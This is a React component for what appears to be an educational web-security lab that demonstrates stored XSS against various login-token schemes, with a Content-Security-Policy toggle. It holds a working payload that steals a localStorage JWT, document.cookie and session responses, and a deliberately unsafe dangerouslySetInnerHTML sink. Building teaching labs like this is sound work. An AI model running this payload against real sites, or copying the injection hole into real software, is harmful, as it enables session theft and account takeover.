"use client";

import Link from "next/link";
import { useTranslations } from "next-intl";
import { useCallback, useEffect, useState } from "react";
import { callApi } from "@/lib/client/api";
import type { Delivery } from "./delivery";
import { code, strong } from "@/app/components/rich-tags";

/**
 * The ready payload: an image that fails to load runs its onerror handler, which reads what page
 * script can read (localStorage, document.cookie), uses what it cannot read (the HttpOnly
 * cookies — session, JWT in the cookie transport, refresh — which the browser still attaches to
 * same-origin requests), and mails it all home.
 */
export const PAYLOAD = `<img src="/no-such-image.png" alt="" onerror="(async () => {
  const jwt = localStorage.getItem('loginlab.jwt');
  const session = await fetch('/api/session/mypage').then((r) => r.text());
  const jwtCookie = await fetch('/api/jwt/mypage').then(async (r) => r.status + ' ' + (await r.text()));
  const refreshed = await fetch('/api/hybrid/refresh', { method: 'POST' }).then((r) => r.json()).catch(() => ({}));
  await fetch('/api/lab/inbox', { method: 'POST', headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ jwt, documentCookie: document.cookie, session: session.slice(0, 1000), jwtCookie: jwtCookie.slice(0, 600), hybridAccessToken: refreshed.access_token ?? null }) });
})()">`;

/**
 * Whether this document was served with our Content-Security-Policy. A policy belongs to the
 * document, not to a route: a client-side navigation (a Next.js link) to or from the lab keeps the
 * policy of the page the visitor loaded first. Next.js puts the policy's nonce on its own scripts
 * when the document had one, so a script with a nonce says which policy is in force.
 */
export function documentHasPolicy(): boolean {
  return Array.from(document.scripts).some((s) => s.nonce !== "");
}

export function XssLab({ csp }: { csp: boolean }) {
  // The policy in force, checked in the browser; null until then. A mismatch with the one this URL
  // asks for (a client-side navigation brought the lab into a document of another policy) loads the
  // page again, so that what the lab says is on is on.
  const [inForce, setInForce] = useState<boolean | null>(null);
  useEffect(() => {
    const has = documentHasPolicy();
    // Once per mismatch at most: should a reload not bring the policy asked for, the page says what is in force.
    const key = "loginlab.xss-reloaded";
    if (has !== csp && sessionStorage.getItem(key) !== String(csp)) {
      sessionStorage.setItem(key, String(csp));
      window.location.reload();
      return;
    }
    sessionStorage.removeItem(key);
    setInForce(has);
  }, [csp]);
  const [draft, setDraft] = useState("");
  const [posted, setPosted] = useState<string | null>(null);
  const [deliveries, setDeliveries] = useState<Delivery[]>([]);
  const [replayed, setReplayed] = useState<Record<string, number>>({});
  const t = useTranslations("xssLab");

  const load = useCallback(async () => {
    const r = await callApi("/api/lab/inbox");
    if (r.status === 200) setDeliveries((r.body as { deliveries: Delivery[] }).deliveries);
  }, []);
  useEffect(() => {
    void load();
    const timer = setInterval(load, 1500);
    return () => clearInterval(timer);
  }, [load]);

  return (
    <div className="flex flex-col gap-5">
      <div className="max-w-3xl">
        <h1 className="text-2xl font-semibold tracking-tight">{t("title")}</h1>
        <p className="mt-2 text-zinc-600 dark:text-zinc-400">
          {t.rich("intro", {
            strong,
            link: (chunks) => (
              <Link href="/" className="underline">
                {chunks}
              </Link>
            ),
          })}
        </p>
        <p
          data-testid="csp-state"
          data-csp={inForce === null ? "checking" : inForce ? "on" : "off"}
          className={`mt-3 rounded-md px-3 py-2 text-sm ${inForce === null ? "bg-zinc-100 text-zinc-800 dark:bg-zinc-800 dark:text-zinc-200" : inForce ? "bg-green-50 text-green-900 dark:bg-green-950/40 dark:text-green-200" : "bg-red-50 text-red-900 dark:bg-red-950/40 dark:text-red-200"}`}
        >
          {inForce === null
            ? t.rich("cspChecking", { code })
            : t.rich(inForce ? "cspOn" : "cspOff", {
                strong,
                code,
                // The link switches the page's CSP the other way. A plain link, not a Next.js one:
                // only a new document gets a new policy.
                link: (chunks) => (
                  <a href={inForce ? "/lab/xss" : "/lab/xss?csp=on"} className="underline">
                    {chunks}
                  </a>
                ),
              })}
        </p>
      </div>

      <section className="grid grid-cols-1 gap-4 lg:grid-cols-2">
        <div className="flex flex-col gap-2 rounded-xl border border-zinc-200 bg-white p-4 dark:border-zinc-800 dark:bg-zinc-900">
          <label htmlFor="comment" className="font-semibold">
            {t("commentLabel")}
          </label>
          <textarea id="comment" value={draft} onChange={(e) => setDraft(e.target.value)} rows={7} className="rounded-md border border-zinc-300 p-2 font-mono text-xs dark:border-zinc-700 dark:bg-zinc-950" />
          <div className="flex gap-2">
            <button type="button" onClick={() => setDraft(PAYLOAD)} className="rounded-md border border-zinc-300 px-3 py-1.5 text-sm dark:border-zinc-700">
              {t("loadPayload")}
            </button>
            <button type="button" disabled={inForce === null} onClick={() => setPosted(draft)} className="rounded-md bg-zinc-900 px-3 py-1.5 text-sm font-semibold text-white dark:bg-zinc-100 dark:text-zinc-900">
              {t("postComment")}
            </button>
          </div>
          <h2 className="mt-2 text-sm font-semibold">{t("comments")}</h2>
          {/* The vulnerability, on purpose: untrusted HTML straight into the page. */}
          <div data-testid="comments" className="min-h-10 rounded-md bg-zinc-50 p-2 text-sm dark:bg-zinc-950" dangerouslySetInnerHTML={{ __html: posted ?? "" }} />
        </div>

        <div data-testid="inbox" className="flex flex-col gap-2 rounded-xl border border-red-200 bg-white p-4 dark:border-red-900 dark:bg-zinc-900">
          <div className="flex items-center">
            <h2 className="font-semibold text-red-700 dark:text-red-400">{t("inbox")}</h2>
            <button type="button" onClick={async () => (await callApi("/api/lab/inbox", { method: "DELETE" }), load())} className="ml-auto text-sm underline">
              {t("clear")}
            </button>
          </div>
          <p className="text-sm text-zinc-600 dark:text-zinc-400">{t("inboxIsYours")}</p>
          {deliveries.length === 0 ? <p className="text-sm text-zinc-600 dark:text-zinc-400">{t("nothingYet")}</p> : null}
          {deliveries.map((d) => (
            <div key={d.at} data-testid="delivery" className="flex flex-col gap-1 border-t border-zinc-200 pt-2 text-sm dark:border-zinc-800">
              <p>
                <strong>{t("jwtFromLocalStorage")}</strong>{" "}
                {d.jwt ? <code className="font-mono break-all">{d.jwt.slice(0, 40)}…</code> : t(d.jwtCookie.startsWith("200 ") ? "noJwtCookieInstead" : "noJwt")}
              </p>
              {d.jwt ? (
                <p>
                  <button
                    type="button"
                    className="rounded border border-red-300 px-2 py-0.5 dark:border-red-800"
                    onClick={async () => {
                      // The attacker, elsewhere, with nothing but the stolen string.
                      const r = await callApi("/api/jwt/mypage", { headers: { Authorization: `Bearer ${d.jwt}` }, credentials: "omit" });
                      setReplayed((p) => ({ ...p, [d.at]: r.status }));
                    }}
                  >
                    {t.rich("callWithIt", { code })}
                  </button>{" "}
                  {replayed[d.at] ? <strong data-testid="attacker-status">{replayed[d.at]}</strong> : null}
                </p>
              ) : null}
              <p>
                {t.rich("documentCookie", {
                  strong,
                  code,
                  stolen: () => (
                    <code data-testid="stolen-cookie" className="font-mono">
                      {JSON.stringify(d.documentCookie)}
                    </code>
                  ),
                })}
              </p>
              <div>
                <strong>{t("usedThem")}</strong>
                <ul className="mt-0.5 list-inside list-disc">
                  <li>
                    {t.rich("sessionAnswered", {
                      code,
                      answer: () => <code className="font-mono break-words">{d.session.length > 120 ? `${d.session.slice(0, 120)}…` : d.session}</code>,
                    })}
                  </li>
                  {d.hybridAccessToken ? <li>{t.rich("freshHybridToken", { code })}</li> : null}
                </ul>
              </div>
              <p data-testid="jwt-cookie-use">
                <strong>{t("jwtCookie")}</strong>{" "}
                {d.jwtCookie.startsWith("200 ")
                  ? t.rich("jwtCookieUsed", {
                      used: () => <code className="font-mono break-words">GET /api/jwt/mypage → {d.jwtCookie.slice(0, 120)}</code>,
                    })
                  : t.rich("jwtCookieNotSent", {
                      sent: () => <code className="font-mono break-words">{d.jwtCookie.slice(0, 80)}</code>,
                    })}
              </p>
            </div>
          ))}
        </div>
      </section>
    </div>
  );
}
